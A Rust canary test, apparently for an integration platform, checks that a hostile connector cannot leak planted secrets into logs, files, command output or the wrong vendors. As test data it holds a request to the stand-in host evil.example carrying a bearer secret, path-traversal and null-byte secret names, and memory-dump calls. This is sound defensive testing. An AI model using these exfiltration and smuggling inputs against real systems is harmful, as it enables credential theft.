//! The canaries: a unique secret of every kind is planted, a hostile connector at vendors that
//! repeat whatever they are sent tries every route to them, and every place that anybody can look
//! at is searched. There is no hit.

#[path = "canary/echo.rs"]
mod echo;
#[path = "canary/house.rs"]
mod house;
#[path = "canary/manifest.rs"]
mod manifest;
#[path = "canary/search.rs"]
mod search;

use std::{collections::BTreeSet, fs};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use jackfield_tests::house::pause_ms;
use serde_json::{Value, json};

use self::{
    echo::FORMS,
    house::{Aviary, Bird},
    manifest::{KINDS, SECRETS},
    search::{Needles, Search},
};

/// How long the first token of the sign-in lives, in milliseconds, and a bit.
const TOKEN_LIFE_MS: u64 = 2_100;
/// The file of the admin token, in which alone it stands.
const TOKEN_FILE: &str = "admin.token";

/// Requests to a vendor in each form in which it repeats them, with a placeholder of each secret
/// wherever a guest can write.
fn requests(bird: &Bird, vendor: &str) -> Vec<Value> {
    let names = SECRETS.iter().map(|name| format!("{{secret:{name}}}"));
    let names: Vec<String> = names.chain(["{token:code}".into(), "{token:own}".into()]).collect();
    let names = names.join(" ");
    let request = |form: &str| {
        json!({
            "method": "POST",
            "url": format!("https://{vendor}.example/v1/{form}?marker={}&a={{secret:bearer}}", bird.marker),
            "headers": { "x-names": names, "content-type": "text/xml", "x-marker": bird.marker },
            "body": format!("<a>{names}</a>"),
        })
    };
    FORMS.iter().map(|form| request(form)).collect()
}

/// What must not come to pass, with the marker as what must.
struct Places<'a> {
    secrets: &'a Search,
    markers: &'a Search,
    found: BTreeSet<String>,
}

impl Places<'_> {
    /// A place in which the marker belongs: the search finds it there, and no secret.
    fn holds_marker(&mut self, place: &str, bytes: &[u8]) {
        assert!(self.markers.finds(bytes), "{place}: not even the marker is there");
        self.holds_no_secret(place, bytes);
    }

    fn holds_no_secret(&mut self, place: &str, bytes: &[u8]) {
        let hits = self.secrets.hits(bytes);
        self.found.extend(hits.into_iter().map(|hit| format!("{place}: {hit}")));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_canary_is_found_anywhere() {
    let mut aviary = Aviary::open().await;
    let mut one = aviary.connect("one", true).await;
    let mut two = aviary.connect("two", true).await;
    let mut three = aviary.connect("three", false).await;
    // The vendors of the third refuse everybody, and say at length what they were sent.
    assert_eq!(aviary.sign_in(&mut three).await, 400);
    three.stock_code();
    for bird in [&mut one, &mut two, &mut three] {
        aviary.shake_hands(bird).await;
        assert_eq!(aviary.sign_in(bird).await, 200);
    }
    try_everything(&mut aviary, &one).await;
    // The first token has run out: the second is had, and the first refresh token is kept.
    pause_ms(TOKEN_LIFE_MS).await;
    for bird in [&one, &two] {
        let send = requests(bird, "code");
        aviary.sings(bird, &json!({ "event": { "send": send } })).await;
    }
    let vendors = ["own", "session", "cookie", "bearer"].into_iter();
    let send: Vec<Value> = vendors.flat_map(|vendor| requests(&three, vendor)).collect();
    aviary.sings(&three, &json!({ "event": { "send": send } })).await;
    look_at_everything(&mut aviary).await;
    let token = fs::read_to_string(aviary.house.dir().join("data").join(TOKEN_FILE)).unwrap();
    let key = fs::read_to_string(aviary.house.key_file()).unwrap();
    aviary.close().await;

    let mut secrets = Needles::default();
    secrets.add("admin token", token.trim().as_bytes());
    let (_, key) = key.trim().rsplit_once(':').unwrap();
    secrets.add("master key, as text", key.as_bytes());
    secrets.add("master key", &STANDARD.decode(key).unwrap());
    let mut markers = Needles::default();
    for bird in [&one, &two, &three] {
        for (name, secret) in &bird.secrets {
            secrets.add(&format!("{name} of {}", bird.name), secret.as_bytes());
        }
        for jwt in sent_jwts(bird) {
            secrets.add(&format!("a signed assertion of {}", bird.name), jwt.as_bytes());
        }
        markers.add("marker", bird.marker.as_bytes());
    }
    let (secrets, markers) = (secrets.ready(), markers.ready());
    let mut places = Places { secrets: &secrets, markers: &markers, found: BTreeSet::new() };
    search(&mut places, &aviary, &[one, two, three]);
    assert!(places.found.is_empty(), "{} hits: {:#?}", places.found.len(), places.found);
}

/// Has the connector try every route at every vendor, and end in every way.
async fn try_everything(aviary: &mut Aviary, bird: &Bird) {
    let plain = |path: &str| format!("https://plain.example/{path}");
    let names: Vec<String> = SECRETS
        .iter()
        .flat_map(|name| [(*name).to_owned(), format!("two\0{name}"), format!("../two/{name}")])
        .chain(["oauth:code", "oauth:own", "handshake"].map(str::to_owned))
        .collect();
    for (vendor, _) in KINDS {
        let event = json!({
            "send": requests(bird, vendor), "names": names,
            "tell": plain("tell"), "dump": plain("dump"),
        });
        aviary.sings(bird, &json!({ "event": event })).await;
    }
    for (at, end) in ["problem", "trap"].iter().enumerate() {
        for vendor in ["bearer", "query", "session", "soap"] {
            let send = requests(bird, vendor).split_off(FORMS.len() - 2 - at);
            let ask = json!({ "send": send, "end": end });
            aviary.sings(bird, &json!({ "event": ask })).await;
        }
        let ask = json!({ "names": names, "dump": plain("dump"), "end": end });
        aviary.sings(bird, &json!({ "parse": ask, "event": {} })).await;
    }
    // Where nothing was granted, and what is no address.
    let send: Vec<Value> = [
        "https://evil.example/{secret:bearer}",
        "https://bearer.example/v2/",
        "https://{secret:bearer}.example/",
        "https://plain.example:1/",
        "{secret:bearer}",
    ]
    .iter()
    .map(|url| json!({ "method": "GET", "url": url }))
    .collect();
    aviary.sings(bird, &json!({ "event": { "send": send, "end": "problem" } })).await;
}

/// Types every command that shows something.
async fn look_at_everything(aviary: &mut Aviary) {
    for words in [
        "status",
        "connection list",
        "connection test one",
        "connector list",
        "flow list",
        "delivery list --limit 500",
        "run list --limit 500",
        "dead-letter list",
        "dead-letter list --all",
        "alert show",
        "audit list --limit 1000",
        "audit verify",
        "key show",
        "token list",
        "publisher list",
        "doctor",
    ] {
        aviary.types(&words.split(' ').collect::<Vec<_>>()).await;
    }
    let release = aviary.house.dir().join("canary.wasm").display().to_string();
    aviary.types(&["connector", "inspect", &release]).await;
    for (what, list) in [
        ("delivery", vec!["delivery", "list", "--limit", "500"]),
        ("run", vec!["run", "list", "--limit", "500"]),
        ("dead-letter", vec!["dead-letter", "list", "--all"]),
    ] {
        let list = aviary.told(&list).await;
        for one in list.as_array().unwrap() {
            aviary.types(&[what, "show", one["id"].as_str().unwrap()]).await;
        }
    }
}

/// The signatures of the assertions that a vendor was shown.
fn sent_jwts(bird: &Bird) -> BTreeSet<String> {
    let received = bird.vendors["jwt"].received();
    let texts = received.iter().map(|request| String::from_utf8_lossy(request).into_owned());
    let shown = texts.filter_map(|text| {
        let line = text.lines().find_map(|line| line.strip_prefix("authorization: Bearer "))?;
        Some(line.rsplit_once('.')?.1.to_owned())
    });
    shown.collect()
}

/// Looks into every place.
fn search(places: &mut Places<'_>, aviary: &Aviary, birds: &[Bird]) {
    places.holds_marker("the log", &fs::read(&aviary.log).unwrap());
    let mut shown = BTreeSet::new();
    for (what, text) in &aviary.printed {
        let kind: Vec<&str> = what.split(' ').take(2).collect();
        shown.insert((kind.join(" "), places.markers.finds(text.as_bytes())));
        places.holds_no_secret(what, text.as_bytes());
    }
    for what in ["connection list", "delivery show", "run show", "dead-letter show"] {
        assert!(shown.contains(&(what.to_owned(), true)), "{what} shows no marker: {shown:?}");
    }
    let files = aviary.files();
    for (name, bytes) in files.iter().filter(|(name, _)| name != TOKEN_FILE) {
        places.holds_no_secret(&format!("the file {name}"), bytes);
    }
    let all: Vec<u8> = files.into_iter().flat_map(|(_, bytes)| bytes).collect();
    assert!(places.markers.finds(&all), "the marker is on disk");
    for bird in birds {
        search_vendors(places, bird, bird.name == birds[0].name);
    }
}

/// What a vendor may be sent: nothing of another vendor's, and nothing of another connection's.
fn is_meant_for(vendor: &str, bird: &Bird, hit: &str) -> bool {
    let meant: &[&str] = match vendor {
        "bearer" => &["bearer"],
        "header" => &["header_key"],
        "query" => &["query_key"],
        "basic" => &["user_name", "user_password"],
        "user" => &["sole_user"],
        "code" => &["code_client", "access token", "refresh token", "authorization code"],
        "own" => &["own_client", "own access token"],
        "session" => &["session_password", "session token"],
        "cookie" => &["cookie_password", "session cookie"],
        "jwt" => &["a signed assertion"],
        "oauth1" => &["consumer_key", "token"],
        "signature" => &["signing_id"],
        "soap" => &["soap_password"],
        _ => &[],
    };
    let own = |name: &&str| hit.starts_with(*name) && !hit.starts_with("token_secret");
    hit.contains(&format!(" of {} (", bird.name)) && meant.iter().any(own)
}

/// Whether a request is a memory from its second byte to its last.
fn is_whole_memory(request: &[u8]) -> bool {
    let text = String::from_utf8_lossy(&request[..request.len().min(1 << 10)]).into_owned();
    let end = text.strip_prefix("POST /dump?from=1&end=").and_then(|rest| rest.split(' ').next());
    let head = request.windows(4).position(|end| end == b"\r\n\r\n");
    let (Some(end), Some(head)) = (end, head) else { return false };
    request.len() - head - 4 == end.parse::<usize>().unwrap() - 1
}

/// Looks into what the vendors of a connection were sent: each may know what is meant for it, and
/// the one that gets no credential may know nothing. What it got is all that the guest heard, and
/// its memory.
fn search_vendors(places: &mut Places<'_>, bird: &Bird, was_dumped: bool) {
    for (vendor, echo) in &bird.vendors {
        let all = echo.received().concat();
        let hits = places.secrets.hits(&all);
        // The search sees what belongs there, too.
        let (meant, astray): (Vec<_>, Vec<_>) =
            hits.into_iter().partition(|hit| is_meant_for(vendor, bird, hit));
        assert!(!was_dumped || *vendor == "plain" || !meant.is_empty(), "nothing at {vendor}");
        let place = format!("the vendor {vendor} of {}", bird.name);
        places.found.extend(astray.into_iter().map(|hit| format!("{place}: {hit}")));
    }
    let plain = bird.vendors["plain"].received();
    assert_eq!(!plain.is_empty(), was_dumped);
    for request in &plain {
        let line = request.split(|byte| *byte == b'\r').next().unwrap_or_default();
        let line = String::from_utf8_lossy(line).into_owned();
        places.holds_no_secret(&format!("what was told and dumped: {line}"), request);
    }
    if was_dumped {
        let whole = plain.iter().filter(|request| is_whole_memory(request)).count();
        assert!(whole >= KINDS.len(), "{whole} whole memories");
    }
    for (path, is_wanted) in [("tell", was_dumped), ("dump", was_dumped)] {
        let prefix = format!("POST /{path}");
        let ours = plain.iter().filter(|request| request.starts_with(prefix.as_bytes()));
        let all: Vec<u8> = ours.flatten().copied().collect();
        assert_eq!(places.markers.finds(&all), is_wanted, "{path} holds the marker");
    }
}
